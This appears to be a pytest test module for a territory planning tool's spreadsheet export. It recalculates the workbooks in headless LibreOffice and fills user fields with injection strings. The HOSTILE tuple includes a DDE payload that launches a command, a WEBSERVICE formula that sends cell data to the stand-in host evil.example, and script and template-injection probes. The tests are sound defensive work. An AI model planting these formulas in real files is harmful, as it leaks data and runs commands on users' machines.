"""LibreOffice as a second opinion on our formulas, and names that mean harm."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from territory.model import Accounts, Plan, Project, Team
from tests.conftest import chessboard

HOSTILE = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "{=1+1}",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "http://evil.example",
    "mailto:a@evil.example",
    "internal:Units!A1",
    "<script>alert(1)</script>",
    "${7*7}",
    "NA",
    "1E5",
    "007",
    'Zoë, “the” "best"',
    "a" * 40_000,
    "bell\x07, null\x00, \ufffe",
)
Recalculate = Callable[[bytes], openpyxl.Workbook]


@pytest.fixture(scope="session")
def recalculate(tmp_path_factory: pytest.TempPathFactory) -> Recalculate:
    """Drop every stored value, let LibreOffice compute all formulas, read the result."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        reason = "LibreOffice is missing: install libreoffice-calc to check the workbook's formulas"
        (pytest.fail if os.environ.get("CI") == "true" else pytest.skip)(reason)
    profile = tmp_path_factory.mktemp("profile")

    def run(content: bytes) -> openpyxl.Workbook:
        folder = tmp_path_factory.mktemp("office")
        openpyxl.load_workbook(io.BytesIO(content)).save(folder / "plan.xlsx")
        command = [str(office), f"-env:UserInstallation={profile.as_uri()}", "--headless",
                   "--convert-to", "xlsx", "--outdir", str(folder / "out"),
                   str(folder / "plan.xlsx")]  # fmt: skip
        subprocess.run(command, check=True, capture_output=True, timeout=180)
        return openpyxl.load_workbook(folder / "out" / "plan.xlsx", data_only=True)

    return run


@pytest.fixture
def hostile() -> tuple[Project, Plan, Plan]:
    """A project in which every text a user can bring is hostile; with a baseline."""
    n = len(HOSTILE)
    units = chessboard(1, n, potential=np.arange(n, dtype=float))
    units = replace(units, ids=np.array(HOSTILE, object))
    units = units.with_attributes(pd.DataFrame({"city": HOSTILE}, index=list(HOSTILE)))
    reps = list(HOSTILE[:6])
    team = Team(pd.DataFrame({"name": reps, "quota": 1.0}, index=reps))
    accounts = Accounts(
        pd.DataFrame(
            dict.fromkeys(("name", "unit_id", "segment", "industry", "status"), HOSTILE),
            index=list(HOSTILE),
        )
    )
    plan = Plan.for_team(units, team).with_alignment(np.arange(n) % 6)
    project = Project("=1+1", units, team, accounts)
    return project, plan, plan.with_alignment(np.arange(n) % 5)


def sheet_rows(book: openpyxl.Workbook, name: str) -> list[dict[str, object]]:
    """The rows of a sheet by header."""
    header, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def written(path: Path) -> openpyxl.Workbook:
    """A workbook with the values stored beside its formulas."""
    return openpyxl.load_workbook(path, data_only=True)
